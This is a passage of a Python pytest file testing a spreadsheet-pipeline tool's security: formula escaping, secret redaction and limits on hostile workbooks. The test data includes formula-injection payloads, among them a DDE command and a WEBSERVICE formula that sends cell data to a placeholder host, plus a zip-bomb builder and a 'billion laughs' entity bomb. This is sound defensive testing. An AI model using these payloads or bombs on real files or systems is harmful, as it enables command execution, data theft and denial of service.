"""Security checks (issue 6, section 4).

(a) Names that look like formulas (=IMPORTXML, +cmd, @SUM, -2+3, =HYPERLINK) are written as text everywhere the
    worker writes them -- Summary, Follow-ups, History, Flags, and its own Lists and state tabs -- on the .xlsx
    backend (string cells, no <f> element) and on Google (no formulaValue, nothing sent USER_ENTERED), and in the
    CSV (leading apostrophe) and markdown reports.
(b) A sentinel secret in the credentials file never shows in any output, log line (any level, text or JSON), error
    message, status file or report.
(c) Hostile workbooks (a zip bomb, a sheet claiming 1,048,576 x 16,384 cells, external links) end with a clear
    one-line error, or a correct sync, within bounded time and memory: each runs in a subprocess with a timeout and
    an address-space limit, so a failing product cannot hang or exhaust the machine.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import logging
import os
import re
import resource
import signal
import struct
import subprocess
import sys
import threading
import time
import traceback
import zipfile
import zlib
from datetime import date
from pathlib import Path
from typing import Any, ClassVar
from xml.etree import ElementTree

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from sheets_pipeline import cli
from sheets_pipeline.backends.xlsx import XlsxBackend
from sheets_pipeline.config import Config
from sheets_pipeline.layout import STATE_TAB
from sheets_pipeline.model import FIELDS
from sheets_pipeline.new_sheet import new_spreadsheet
from sheets_pipeline.report import render
from sheets_pipeline.sync import insights, sync

from .backends.test_xlsx_quick import FAR_ROWS, _rewrite_pipeline
from .conftest import TODAY

REPO = Path(__file__).resolve().parent.parent
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"

# --- (a) formula-like names ----------------------------------------------------------------------------------------

PAYLOADS = ['=IMPORTXML("http://x","//a")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", '=HYPERLINK("http://x")']
UNLISTED = '=WEBSERVICE("http://x/?q="&A1)'  # typed as a Stage, not one: quoted in Flags, kept in History
# The payloads are the pipeline's stages (after New), sources and loss reasons, so that they reach the Summary.
CONFIG = Config(stages=["New", *PAYLOADS], sources=PAYLOADS, loss_reasons=PAYLOADS)
COL = {name: i for i, name in enumerate(FIELDS)}
WORKER_TABS = ("Summary", "Follow-ups", "History", "Lists", STATE_TAB)


def _row(**values: Any) -> list[Any]:
    return [values.get(name) for name in FIELDS]


def formula_like_leads() -> list[list[Any]]:
    """Open leads waiting on a follow-up (Follow-ups tab), lost ones (loss reasons), one with an unknown Stage."""
    rows = []
    for p in PAYLOADS:
        rows.append(_row(lead=p, owner=p, source=p, stage=p, first_contact=date(2026, 11, 20)))
    for p in PAYLOADS:
        rows.append(_row(lead=p, owner=p, source=p, stage=p, outcome="Lost", loss_reason=p,
                         first_contact=date(2026, 10, 1), closed=date(2026, 11, 15)))
    rows.append(_row(lead=PAYLOADS[0], owner=PAYLOADS[1], source=PAYLOADS[2], stage=UNLISTED))
    return rows


def stage_edits() -> dict[int, str]:
    """Sheet row -> the Stage a person moves the lead to between two syncs (History records each move)."""
    edits = {2 + k: PAYLOADS[(k + 1) % len(PAYLOADS)] for k in range(len(PAYLOADS))}
    edits[2 + 2 * len(PAYLOADS)] = PAYLOADS[3]  # the unknown stage becomes a real one
    return edits


def _text_cell(cell, value: str) -> None:
    cell.value = value
    cell.data_type = "s"  # what a person typed as text ('=... in Excel)


def synced_workbook(path: Path) -> Path:
    """init, leads typed by people, sync, people move stages, sync again."""
    XlsxBackend(path).create(new_spreadsheet(CONFIG, TODAY))
    wb = openpyxl.load_workbook(path)
    ws = wb["Pipeline"]
    for r, row in enumerate(formula_like_leads(), start=2):
        for c, value in enumerate(row, start=1):
            if isinstance(value, str):
                _text_cell(ws.cell(r, c), value)
            elif value is not None:
                ws.cell(r, c, value)
    wb.save(path)
    assert sync(XlsxBackend(path), CONFIG, TODAY).written
    wb = openpyxl.load_workbook(path)
    for row, stage in stage_edits().items():
        _text_cell(wb["Pipeline"].cell(row, COL["stage"] + 1), stage)
    wb.save(path)
    second = sync(XlsxBackend(path), CONFIG, TODAY)
    assert second.written and second.counts["history"] >= len(stage_edits())
    return path


def sheet_parts(path: Path) -> dict[str, str]:
    """Tab title -> its worksheet part in the zip."""
    with zipfile.ZipFile(path) as archive:
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        rels = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
    targets = {rel.get("Id"): rel.get("Target") for rel in rels}
    parts = {}
    for sheet in workbook.iter(f"{{{MAIN_NS}}}sheet"):
        target = targets[sheet.get(f"{{{REL_NS}}}id")]
        parts[sheet.get("name")] = target.lstrip("/") if target.startswith("/") else "xl/" + target
    return parts


def formula_cells(path: Path) -> dict[str, list[str]]:
    """Tab title -> references of the cells holding an <f> element (a formula), read from the XML itself."""
    found: dict[str, list[str]] = {}
    with zipfile.ZipFile(path) as archive:
        for title, part in sheet_parts(path).items():
            root = ElementTree.fromstring(archive.read(part))
            refs = [c.get("r") for c in root.iter(f"{{{MAIN_NS}}}c") if c.find(f"{{{MAIN_NS}}}f") is not None]
            if refs:
                found[title] = refs
    return found


def tab_values(ws) -> list[str]:
    return [cell.value for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_xlsx_writes_formula_like_names_as_text_everywhere(tmp_path):
    path = synced_workbook(tmp_path / "p.xlsx")
    assert formula_cells(path) == {}, "cells stored as formulas (no person typed any)"
    wb = openpyxl.load_workbook(path)
    not_text = []
    for title in WORKER_TABS:
        for row in wb[title].iter_rows():
            not_text += [f"{title}!{c.coordinate}={c.value!r} ({c.data_type})" for c in row
                         if isinstance(c.value, str) and c.data_type != "s"]
    for row in wb["Pipeline"].iter_rows(min_row=2):
        not_text += [f"Pipeline!{c.coordinate}={c.value!r} ({c.data_type})" for c in row
                     if isinstance(c.value, str) and c.data_type != "s"]
    assert not not_text, "text written as something else: " + "; ".join(not_text[:10])
    # the payloads did reach every tab the issue names, so the checks above looked at them
    summary, follow_ups, history = (tab_values(wb[t]) for t in ("Summary", "Follow-ups", "History"))
    for p in PAYLOADS:
        assert p in summary, f"{p!r} is not in the Summary"
        assert p in follow_ups, f"{p!r} is not in Follow-ups"
        assert p in history, f"{p!r} is not in History"
    assert UNLISTED in history


def test_xlsx_flags_quoting_a_formula_like_value_are_text(tmp_path):
    """A flag that starts with a person's text would be the dangerous one: every flag cell is a string cell."""
    path = tmp_path / "p.xlsx"
    XlsxBackend(path).create(new_spreadsheet(Config(), TODAY))
    wb = openpyxl.load_workbook(path)
    ws = wb["Pipeline"]
    for r, p in enumerate(PAYLOADS + [UNLISTED], start=2):
        for name in ("lead", "stage", "source", "loss_reason", "value", "follow_ups", "created"):
            _text_cell(ws.cell(r, COL[name] + 1), p)
    wb.save(path)
    sync(XlsxBackend(path), Config(), TODAY)
    wb = openpyxl.load_workbook(path)
    flags = [wb["Pipeline"].cell(r, COL["flags"] + 1) for r in range(2, len(PAYLOADS) + 3)]
    assert all(c.value for c in flags)
    assert all(c.data_type == "s" for c in flags), [(c.coordinate, c.data_type) for c in flags]
    assert formula_cells(path) == {}
    quoted = " ".join(c.value for c in flags)
    assert all(p[:20] in quoted for p in PAYLOADS), "the flags do not quote the values"


def formula_like_insights(tmp_path: Path):
    return insights(XlsxBackend(synced_workbook(tmp_path / "p.xlsx")), CONFIG, TODAY)


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_report_escapes_formula_like_names(tmp_path):
    out = render(formula_like_insights(tmp_path), "csv")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    live = [c for c in cells if c.startswith(_FORMULA_START) and not _is_number(c)]
    assert not live, f"CSV cells a spreadsheet would run: {live[:5]}"
    for p in PAYLOADS:
        assert "'" + p in cells, f"{p!r} is not in the CSV as '{p}"


def test_cli_csv_report_escapes_formula_like_names(tmp_path, monkeypatch):
    path = synced_workbook(tmp_path / "p.xlsx")
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SHEETS_PIPELINE_CONFIG", raising=False)
    Path("sheets-pipeline.yaml").write_text(yaml.safe_dump(
        {"stages": CONFIG.stages, "sources": CONFIG.sources, "loss_reasons": CONFIG.loss_reasons}), encoding="utf-8")
    result = CliRunner().invoke(cli.main, ["report", str(path), "--format", "csv", "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert not [c for c in cells if c.startswith(_FORMULA_START) and not _is_number(c)]
    assert all("'" + p in cells for p in PAYLOADS)


_UNESCAPED_PIPE = re.compile(r"(?<!\\)(?:\\\\)*\|")


def test_markdown_report_keeps_formula_like_names_as_text_in_their_cells(tmp_path):
    out = render(formula_like_insights(tmp_path), "markdown")
    lines = re.split(r"\r\n|\r|\n", out)
    tables: list[list[str]] = []
    for line in lines:
        if line.startswith("|"):
            if not tables or not tables[-1]:
                tables.append([])
            tables[-1].append(line)
        elif tables and tables[-1]:
            tables.append([])
    broken = []
    for table in filter(None, tables):
        widths = {len(_UNESCAPED_PIPE.findall(line)) for line in table}
        if len(widths) != 1:
            broken.append(table[0])
    assert not broken, f"markdown tables whose rows have a different number of cells: {broken[:3]}"
    for p in PAYLOADS:
        escaped = p.replace("\\", "\\\\").replace("|", "\\|")
        assert f"| {escaped} |" in out, f"{p!r} is not a cell of its own in the markdown report"


def _walk(value: Any, path: str = ""):
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _walk(v, f"{path}.{k}")
            yield f"{path}.{k}", k
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _walk(v, f"{path}[{i}]")
    else:
        yield path, value


def test_google_writes_formula_like_names_as_text_everywhere():
    emulator = pytest.importorskip("sheets_pipeline.testing.emulator",
                                   reason="the Sheets API emulator (sheets_pipeline.testing.emulator) is not available")
    from sheets_pipeline.backends.google_auth import google_client
    from sheets_pipeline.backends.gsheets import GSheetsBackend
    from sheets_pipeline.backends.retry import RetryPolicy
    from sheets_pipeline.config import GoogleSettings

    def typed(value: Any) -> Any:  # a person types text with a leading apostrophe, dates as text
        if isinstance(value, str):
            return "'" + value
        return "" if value is None else value.isoformat() if isinstance(value, date) else value

    with emulator.SheetsEmulator() as emu:
        config = CONFIG.model_copy(update={"google": GoogleSettings(api_endpoint=emu.url,
                                                                    requests_per_minute=100_000)})
        backend = GSheetsBackend(google_client(config.google, RetryPolicy(sleep=lambda s: None)), None)
        backend.create(new_spreadsheet(config, TODAY))
        key = backend.key
        emu.set_values(key, "Pipeline", "A2", [[typed(v) for v in row] for row in formula_like_leads()])
        assert sync(backend, config, TODAY).written
        letter = chr(ord("A") + COL["stage"])
        for row, stage in stage_edits().items():
            emu.set_values(key, "Pipeline", f"{letter}{row}", [["'" + stage]])
        assert sync(backend, config, TODAY).written
        assert getattr(emu, "errors", []) == []

        sent_formulas, user_entered, strings = [], [], []
        for request in emu.requests:
            for where, value in _walk({"query": request.get("query"), "body": request.get("body")}):
                if value == "formulaValue":
                    sent_formulas.append(f"{request['endpoint']} {where}")
                if isinstance(value, str) and "USER_ENTERED" in value:
                    user_entered.append(f"{request['endpoint']} {where}")
                if where.endswith(".stringValue"):
                    strings.append(value)
        assert not sent_formulas, f"formulaValue sent: {sent_formulas[:5]}"
        assert not user_entered, f"values sent to be parsed as typed (USER_ENTERED): {user_entered[:5]}"
        for p in PAYLOADS:
            assert p in strings, f"{p!r} was never sent as a stringValue"

        resource_ = emu.spreadsheet(key)
        stored_formulas = []
        for sheet in resource_["sheets"]:
            title = sheet["properties"]["title"]
            for block in sheet.get("data", []):
                for r, row in enumerate(block.get("rowData", [])):
                    for c, cell in enumerate(row.get("values", [])):
                        if "formulaValue" in (cell.get("userEnteredValue") or {}):
                            stored_formulas.append(f"{title}!R{r + 1}C{c + 1}")
        assert not stored_formulas, f"cells holding formulas: {stored_formulas[:5]}"
        values = {t: [v for row in emu.values(key, t) for v in row] for t in ("Summary", "Follow-ups", "History")}
        for p in PAYLOADS:
            for title, found in values.items():
                assert p in found, f"{p!r} is not in {title}"


# --- (b) the credentials never show --------------------------------------------------------------------------------

SECRET = "SENTINEL-SECRET-123"
SHEET_URL = "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-AbC/edit"


class _TokenEndpoint(http.server.BaseHTTPRequestHandler):
    """Google's token endpoint refusing the grant, as it does for a revoked key."""

    hits: ClassVar[list[str]] = []

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        self.hits.append(self.path)
        body = json.dumps({"error": "invalid_grant", "error_description": "Invalid JWT Signature."}).encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def token_endpoint():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _TokenEndpoint)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/token"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def real_private_key() -> str:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                            serialization.NoEncryption()).decode()
    return f"{SECRET}\n{pem}"  # RFC 7468 allows text before the block: the key still loads


def _service_account(private_key: str, token_uri: str) -> dict[str, str]:
    return {"type": "service_account", "project_id": "acme", "private_key_id": "0123abcd",
            "private_key": private_key, "client_email": "worker@acme.iam.gserviceaccount.com",
            "client_id": "1234567890", "token_uri": token_uri}


CREDENTIALS = ["service-account-unreadable-key", "service-account-refused", "authorized-user-refused", "not-json",
               "world-readable", "from-environment"]
COMMANDS = [
    ["sync"], ["-v", "sync"], ["--log-format", "json", "-v", "sync"], ["--log-file", "worker.log", "sync"],
    ["sync", "--dry-run"], ["sync", "--all"], ["validate"], ["report", "--format", "csv"], ["doctor"],
]


@pytest.fixture
def workdir(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.delenv("SHEETS_PIPELINE_CONFIG", raising=False)
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    return tmp_path


def write_credentials(kind: str, folder: Path, token_uri: str, real_key: str, monkeypatch) -> dict[str, Any]:
    path = folder / "credentials.json"
    unreadable_key = f"-----BEGIN PRIVATE KEY-----\n{SECRET}\n-----END PRIVATE KEY-----\n"
    if kind == "service-account-refused":
        text = json.dumps(_service_account(real_key, token_uri))
    elif kind == "authorized-user-refused":
        text = json.dumps({"type": "authorized_user", "client_id": "1234.apps.googleusercontent.com",
                           "client_secret": SECRET, "refresh_token": SECRET, "token_uri": token_uri})
    elif kind == "not-json":
        text = f"private_key = {SECRET}\n{{not json"
    else:
        text = json.dumps(_service_account(unreadable_key, token_uri))
    path.write_text(text, encoding="utf-8")
    path.chmod(0o644 if kind == "world-readable" else 0o600)
    google: dict[str, Any] = {"timeout": 5}
    if kind == "from-environment":
        monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(path))
    else:
        google["credentials"] = str(path)
    return {"target": SHEET_URL, "google": google}


def _everything_written(folder: Path, skip: Path) -> str:
    texts = []
    for path in folder.rglob("*"):
        if path.is_file() and path != skip:
            texts.append(f"--- {path}\n" + path.read_bytes().decode("utf-8", "replace"))
    state = os.environ.get("XDG_STATE_HOME")
    if state and Path(state).is_dir() and not Path(state).is_relative_to(folder):
        texts.append(_everything_written(Path(state), skip))
    return "\n".join(texts)


class _Everything(logging.Handler):
    """Every record of every logger, whatever its level, formatted with its arguments."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        text = record.getMessage()
        if record.exc_info:
            text += "\n" + "".join(traceback.format_exception(*record.exc_info))
        self.lines.append(f"{record.name} {record.levelname} {text}")


@pytest.mark.parametrize("kind", CREDENTIALS)
def test_the_credentials_secret_never_shows(kind, workdir, token_endpoint, real_private_key, monkeypatch):
    config = write_credentials(kind, workdir, token_endpoint, real_private_key, monkeypatch)
    Path("sheets-pipeline.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    # every level: the worker's own logger forced to DEBUG, and every library's records caught at DEBUG
    original = cli.setup_logging
    monkeypatch.setattr(cli, "setup_logging", lambda fmt="text", path=None, level=logging.INFO, stream=None:
                        original(fmt, path, logging.DEBUG, stream))
    catch_all = _Everything()
    root = logging.getLogger()
    old_level = root.level
    root.addHandler(catch_all)
    root.setLevel(logging.DEBUG)
    seen: list[str] = []
    try:
        runner = CliRunner()
        for command in COMMANDS:
            result = runner.invoke(cli.main, [*command, "--today", TODAY.isoformat()])
            text = f"$ {' '.join(command)} -> exit {result.exit_code}\n{result.stdout}\n{result.stderr}"
            if result.exception is not None and not isinstance(result.exception, SystemExit):
                text += "".join(traceback.format_exception(result.exception))
            seen.append(text)
    finally:
        root.removeHandler(catch_all)
        root.setLevel(old_level)
        logging.getLogger("sheets_pipeline").handlers.clear()
    everything = "\n".join(seen + catch_all.lines) + _everything_written(workdir, workdir / "credentials.json")
    leaks = [line for line in everything.splitlines() if SECRET in line]
    assert not leaks, f"the secret shows in: {leaks[:3]}"
    # the credentials were really used (not skipped): every sync failed, and doctor named the problem
    assert all(" -> exit 0\n" not in s for s in seen if s.startswith("$ sync")), seen
    doctor = next(s for s in seen if s.startswith("$ doctor"))
    assert "credentials" in doctor
    if kind == "world-readable":
        assert "chmod 600" in doctor


def test_a_failing_sync_reports_one_line_without_the_secret(workdir, token_endpoint, real_private_key):
    """The token endpoint refuses a real key: the user gets one line, the secret nowhere."""
    path = workdir / "credentials.json"
    path.write_text(json.dumps(_service_account(real_private_key, token_endpoint)), encoding="utf-8")
    path.chmod(0o600)
    Path("sheets-pipeline.yaml").write_text(yaml.safe_dump({"target": SHEET_URL, "google": {
        "credentials": str(path), "timeout": 5}}), encoding="utf-8")
    hits = len(_TokenEndpoint.hits)
    result = CliRunner().invoke(cli.main, ["sync", "--today", TODAY.isoformat()])
    assert len(_TokenEndpoint.hits) > hits, "the token endpoint was never asked"
    output = result.output
    if result.exception is not None:
        output += "".join(traceback.format_exception(result.exception))
    assert SECRET not in output
    assert result.exit_code not in (0, 1) and isinstance(result.exception, SystemExit), \
        f"exit {result.exit_code}, {type(result.exception).__name__}: {result.exception}"
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr


# --- (c) hostile workbooks -----------------------------------------------------------------------------------------

TIME_LIMIT = 30.0  # seconds before the worker is killed
ADDRESS_SPACE = 3 << 30  # bytes of virtual memory the worker may map (RLIMIT_AS)
PEAK_LIMIT_MB = 1024  # resident memory a refusal or a sync of a small sheet may take


def run_limited(args: list[str], cwd: Path, timeout: float = TIME_LIMIT) -> dict[str, Any]:
    """Run the CLI in a subprocess under RLIMIT_AS, killed after `timeout`; exit code (None when killed),
    output, wall time and peak resident memory (wait4's ru_maxrss)."""
    def limits() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))

    env = {k: v for k, v in os.environ.items() if k != "SHEETS_PIPELINE_CONFIG"}
    env["PYTHONPATH"] = os.pathsep.join([str(REPO), env.get("PYTHONPATH", "")])
    started = time.monotonic()
    proc = subprocess.Popen([sys.executable, "-m", "sheets_pipeline", *args], cwd=cwd, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=limits)  # noqa: PLW1509 - only setrlimit runs between fork and exec
    out: dict[str, bytes] = {}
    readers = [threading.Thread(target=lambda name=name, stream=stream: out.__setitem__(name, stream.read()))
               for name, stream in (("stdout", proc.stdout), ("stderr", proc.stderr))]
    for reader in readers:
        reader.start()
    killed = False
    while True:
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() - started > timeout:
            os.kill(proc.pid, signal.SIGKILL)
            killed = True
            pid, status, usage = os.wait4(proc.pid, 0)
            break
        time.sleep(0.05)
    elapsed = time.monotonic() - started
    proc.returncode = os.waitstatus_to_exitcode(status)  # reaped here: Popen must not wait for it again
    for reader in readers:
        reader.join(5)
    return {"code": None if killed else proc.returncode, "stdout": out.get("stdout", b"").decode("utf-8", "replace"),
            "stderr": out.get("stderr", b"").decode("utf-8", "replace"), "seconds": round(elapsed, 1),
            "peak_mb": usage.ru_maxrss // 1024}


def _measured(run: dict[str, Any]) -> str:
    tail = run["stderr"].strip().splitlines()[-3:]
    return (f"exit {run['code']}, {run['seconds']} s, peak {run['peak_mb']} MB; stderr ends with: {tail}")


def assert_clear_refusal(run: dict[str, Any], exit_code: int | None = 3) -> None:
    assert run["code"] is not None, f"killed after {TIME_LIMIT:.0f} s ({_measured(run)})"
    assert run["peak_mb"] <= PEAK_LIMIT_MB, f"peak memory over {PEAK_LIMIT_MB} MB ({_measured(run)})"
    lines = run["stderr"].strip().splitlines()
    assert "Traceback" not in run["stderr"], f"a traceback instead of an error ({_measured(run)})"
    assert len(lines) == 1 and lines[0].startswith("error: "), f"not one clear error line ({_measured(run)})"
    if exit_code is not None:
        assert run["code"] == exit_code, _measured(run)


def base_workbook(path: Path) -> Path:
    XlsxBackend(path).create(new_spreadsheet(Config(), TODAY))
    wb = openpyxl.load_workbook(path)
    ws = wb["Pipeline"]
    for r, name in enumerate(("Acme", "Bolt"), start=2):
        ws.cell(r, COL["lead"] + 1, name)
        ws.cell(r, COL["stage"] + 1, "New")
    wb.save(path)
    return path


def _zip_entry(name: str, out, offset: int, crc: int, size: int, compressed: bytes) -> bytes:
    """Write one deflated entry (local header + data); returns its central-directory record."""
    encoded = name.encode()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(compressed), size,
                          len(encoded), 0) + encoded)
    out.write(compressed)
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(compressed), size,
                       len(encoded), 0, 0, 0, 0, 0, offset) + encoded


def write_zip_bomb(source: Path, target: Path, expanded: int = 3_900_000_000) -> int:
    """`source` with its Pipeline worksheet replaced by one that inflates to about `expanded` bytes: the real header
    row, then the same row repeated, as a zip whose deflate stream is a small block repeated (about 14 MB on disk)."""
    parts = sheet_parts(source)
    bomb_part = parts["Pipeline"]
    with zipfile.ZipFile(source) as archive:
        entries = [(info.filename, archive.read(info.filename)) for info in archive.infolist()]
    original = dict(entries)[bomb_part].decode()
    head, rest = original.split("<sheetData>", 1)
    header_row = rest[: rest.index("</row>") + len("</row>")]
    prefix = (head + "<sheetData>" + header_row).encode()
    suffix = ("</sheetData>" + rest.split("</sheetData>", 1)[1]).encode()
    row = b'<row><c t="inlineStr"><is><t>Acme</t></is></c><c t="n"><v>1</v></c></row>'
    chunk = row * ((1 << 20) // len(row))
    repeats = (expanded - len(prefix) - len(suffix)) // len(chunk)

    def deflate(data: bytes, final: bool) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(data) + packer.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    chunk_deflated = deflate(chunk, final=False)  # byte-aligned, no back-reference outside itself: repeatable
    crc = zlib.crc32(prefix)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc)
    size = len(prefix) + repeats * len(chunk) + len(suffix)
    assert size < 1 << 32
    central = []
    with target.open("wb") as out:
        for name, data in entries:
            offset = out.tell()
            if name == bomb_part:
                compressed = deflate(prefix, False) + chunk_deflated * repeats + deflate(suffix, True)
                central.append(_zip_entry(name, out, offset, crc & 0xFFFFFFFF, size, compressed))
            else:
                central.append(_zip_entry(name, out, offset, zlib.crc32(data), len(data), deflate(data, True)))
        start = out.tell()
        for record in central:
            out.write(record)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start,
                              start, 0))
    return size


@pytest.mark.parametrize("size", [3_900_000_000, 1_900_000_000], ids=["3.9GB", "1.9GB"])
def test_zip_bomb_is_refused_within_bounded_time_and_memory(tmp_path, size):
    """Several GB of rows from a few MB of zip. The smaller one stays under a 2 GB cap on the unpacked size: it is
    still some 25 million rows, far beyond what a load can hold in memory, and must be refused as well."""
    base = base_workbook(tmp_path / "base.xlsx")
    bomb = tmp_path / "bomb.xlsx"
    expanded = write_zip_bomb(base, bomb, size)
    on_disk = bomb.stat().st_size
    assert on_disk < 20_000_000 and expanded > size - 2_000_000
    with zipfile.ZipFile(bomb) as archive:  # a valid zip: the check is on what it holds, not on its format
        assert archive.getinfo(sheet_parts(bomb)["Pipeline"]).file_size == expanded
    before = bomb.read_bytes()
    run = run_limited(["sync", "bomb.xlsx", "--today", TODAY.isoformat()], tmp_path)
    print(f"zip bomb ({on_disk / 1e6:.1f} MB inflating to {expanded / 1e9:.2f} GB): {_measured(run)}")
    assert_clear_refusal(run)
    assert bomb.read_bytes() == before


def _rewrite_part(path: Path, part: str, change) -> None:
    with zipfile.ZipFile(path) as archive:
        entries = {info.filename: archive.read(info.filename) for info in archive.infolist()}
    entries[part] = change(entries[part])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


@pytest.mark.parametrize("damage", ["truncated", "not-xml", "entity-expansion"])
def test_a_damaged_worksheet_is_a_clear_error(tmp_path, damage):
    """The Pipeline part cut short (an interrupted copy), replaced by junk, or an XML entity bomb ("billion
    laughs"): a one-line error, quickly, and the file left as it was."""
    path = base_workbook(tmp_path / "p.xlsx")
    part = sheet_parts(path)["Pipeline"]
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
              + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
              + f']><worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t>'
              "</is></c></row></sheetData></worksheet>")
    changes = {
        "truncated": lambda data: data[: len(data) // 2],
        "not-xml": lambda data: b"\x00\xff garbage, not XML" * 100,
        "entity-expansion": lambda data: laughs.encode(),
    }
    _rewrite_part(path, part, changes[damage])
    before = path.read_bytes()
    run = run_limited(["sync", "p.xlsx", "--today", TODAY.isoformat()], tmp_path)
    print(f"damaged worksheet ({damage}): {_measured(run)}")
    assert_clear_refusal(run)
    assert path.read_bytes() == before


@pytest.mark.parametrize("far_cell", ["XFD1048576", "A1048576"])
def test_a_sheet_claiming_a_million_rows_ends_within_bounded_time_and_memory(tmp_path, far_cell):
    """<dimension ref="A1:XFD1048576"/> and a value in the last row: a clear error, or a sync that keeps the far
    cell -- either within the limits."""
    path = base_workbook(tmp_path / "p.xlsx")
    wb = openpyxl.load_workbook(path)
    wb["Pipeline"][far_cell] = "far away"
    wb.save(path)
    with zipfile.ZipFile(path) as archive:
        xml = archive.read(sheet_parts(path)["Pipeline"]).decode()
    assert re.search(r'<dimension ref="A1:XFD1048576"\s*/>', xml) or far_cell != "XFD1048576", xml[:300]
    before = path.read_bytes()
    run = run_limited(["sync", "p.xlsx", "--today", TODAY.isoformat()], tmp_path)
    print(f"far cell {far_cell}: {_measured(run)}")
    assert run["code"] is not None, f"killed after {TIME_LIMIT:.0f} s ({_measured(run)})"
    assert run["peak_mb"] <= PEAK_LIMIT_MB, f"peak memory over {PEAK_LIMIT_MB} MB ({_measured(run)})"
    if run["code"] == 0:
        assert openpyxl.load_workbook(path)["Pipeline"][far_cell].value == "far away"
    else:
        assert_clear_refusal(run, exit_code=None)
        assert path.read_bytes() == before


@pytest.mark.parametrize("far_cell", ["XFD1048576", "A1048576", "ZZ99999"])
@pytest.mark.parametrize("command", ["validate", "report", "sync --dry-run"])
def test_commands_that_only_read_a_far_flung_sheet_stay_within_bounds(tmp_path, far_cell, command):
    """The quick reader of read-only commands holds a sheet as a rectangle: a far cell must send it to the full
    load (which holds only the cells that exist), not make it ask for billions of cells."""
    path = base_workbook(tmp_path / "p.xlsx")
    wb = openpyxl.load_workbook(path)
    wb["Pipeline"][far_cell] = "far away"
    wb.save(path)
    before = path.read_bytes()
    run = run_limited([*command.split(), "p.xlsx", "--today", TODAY.isoformat()], tmp_path)
    print(f"{command}, far cell {far_cell}: {_measured(run)}")
    assert run["code"] == 0, _measured(run)
    assert run["peak_mb"] <= PEAK_LIMIT_MB, f"peak memory over {PEAK_LIMIT_MB} MB ({_measured(run)})"
    assert path.read_bytes() == before


@pytest.mark.parametrize("far", FAR_ROWS)
def test_a_far_cell_hidden_from_a_plain_search_keeps_a_read_within_bounds(tmp_path, far):
    """A cell reference after a tab, in apostrophes or with blanks around its '=' is still a far cell."""
    path = base_workbook(tmp_path / "p.xlsx")
    _rewrite_pipeline(path, lambda xml: xml.replace(b"</sheetData>", far + b"</sheetData>"))
    run = run_limited(["validate", "p.xlsx", "--today", TODAY.isoformat()], tmp_path)
    print(f"far row {far!r}: {_measured(run)}")
    assert run["peak_mb"] <= PEAK_LIMIT_MB, f"peak memory over {PEAK_LIMIT_MB} MB ({_measured(run)})"
    if b"99999999" in far:  # past what a spreadsheet holds: refused, naming where
        assert run["code"] == 3, _measured(run)
        assert run["stderr"].strip() == ("error: p.xlsx: tab 'Pipeline' has a cell at row 99,999,999, column 1, past "
